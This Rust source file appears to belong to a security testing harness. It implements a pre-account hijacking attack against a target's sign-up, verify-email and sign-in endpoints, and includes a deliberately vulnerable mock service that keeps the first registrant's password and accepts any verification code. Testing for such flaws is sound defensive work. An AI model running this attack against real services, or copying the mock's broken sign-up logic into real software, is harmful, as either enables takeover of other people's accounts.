//! Pre-account hijacking: somebody signs up with an address that is not theirs and a password that they know, and waits
//! until its owner comes and proves the address.

use anyhow::Context;
use axum::extract::State;
use axum::http::StatusCode;
use axum::routing::{get, post};
use axum::{Json, Router};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex, PoisonError};

use super::{Attack, Control};
use crate::Outcome;
use crate::target::{PASSWORD, Target};

pub const ATTACK: Attack = Attack { name: "pre_account_hijacking", settings: &[], control: Control::Service };

const ADDRESS: &str = "alice@example.com";
const HIS: &str = "a password that mallory knows";

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    let sign_up = async |password: &str| {
        target.json("/api/v1/sign-up", &json!({"email": ADDRESS, "password": password, "name": "Sam"})).await
    };
    sign_up(HIS).await?;
    let first = target.mail(ADDRESS, "verify_email").await?["code"].clone();
    sign_up(PASSWORD).await?;
    // Hers is the newer mail.
    let mut code = first.clone();
    for _ in 0..200 {
        code = target.mail(ADDRESS, "verify_email").await?["code"].clone();
        if code != first {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let proved = target.json("/api/v1/verify-email", &json!({"email": ADDRESS, "code": code})).await?;
    anyhow::ensure!(proved.is_done(), "{}", proved.body);
    let signed_in = target.json("/api/v1/sign-in", &json!({"email": ADDRESS, "password": HIS})).await?;
    let is_in = !signed_in.json()["access_token"].is_null();
    if !is_in {
        let hers = target.json("/api/v1/sign-in", &json!({"email": ADDRESS, "password": PASSWORD})).await?;
        hers.json()["access_token"].as_str().context("alice cannot sign in")?;
    }
    Ok(Outcome::of(is_in.then(|| "mallory's password opens alice's account".to_owned())))
}

/// The password of the first who signed up, and the codes that were mailed.
#[derive(Default)]
struct Account {
    password: Option<String>,
    codes: Vec<String>,
}

type Shared = Arc<Mutex<Account>>;

pub async fn service() -> anyhow::Result<Target> {
    let router = Router::new()
        .route("/api/v1/sign-up", post(sign_up))
        .route("/api/v1/verify-email", post(verify_email))
        .route("/api/v1/sign-in", post(sign_in))
        .route("/dev/inbox.json", get(inbox))
        .with_state(Shared::default());
    Target::service(router).await
}

async fn sign_up(State(account): State<Shared>, Json(body): Json<Value>) -> StatusCode {
    let mut account = account.lock().unwrap_or_else(PoisonError::into_inner);
    let password = body["password"].as_str().unwrap_or_default().to_owned();
    account.password.get_or_insert(password);
    let code = format!("{:06}", account.codes.len());
    account.codes.insert(0, code);
    StatusCode::ACCEPTED
}

async fn verify_email() -> StatusCode {
    StatusCode::NO_CONTENT
}

async fn sign_in(State(account): State<Shared>, Json(body): Json<Value>) -> Json<Value> {
    let account = account.lock().unwrap_or_else(PoisonError::into_inner);
    let is_right = account.password.as_deref() == body["password"].as_str();
    Json(if is_right { json!({"access_token": "x"}) } else { json!({}) })
}

async fn inbox(State(account): State<Shared>) -> Json<Value> {
    let account = account.lock().unwrap_or_else(PoisonError::into_inner);
    let mails: Vec<Value> = account.codes.iter().map(|code| json!({"kind": "verify_email", "code": code})).collect();
    Json(mails.into())
}
